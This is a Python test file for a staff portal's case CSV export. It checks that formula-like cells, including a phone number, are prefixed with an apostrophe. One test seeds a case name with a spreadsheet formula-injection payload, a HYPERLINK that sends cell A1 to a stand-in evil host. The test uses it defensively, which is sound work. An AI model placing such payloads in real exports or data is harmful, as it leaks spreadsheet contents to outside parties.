"""The case CSV export: spreadsheet-safe cells (the same helper as the annual report's CSV), and an access-log row
for every export: who, the filters, how many rows, and whether contact details were in it."""

import csv
import io

from portal.triage.deadlines import london_today
from tests.triage.conftest import new_case


def exported(pages, url="/staff/cases.csv"):
    response = pages.client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_case_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(pages, make_user, db_session):
    new_case(
        db_session,
        london_today(),
        reply_route="phone",
        reply_phone="+44 7700 900123",
        name='=HYPERLINK("https://evil.example/?"&A1,"Sam")',
    )
    pages.sign_in(make_user("manager"))
    header, row = exported(pages)
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Sam")'
    assert cells["phone"] == "'+44 7700 900123"
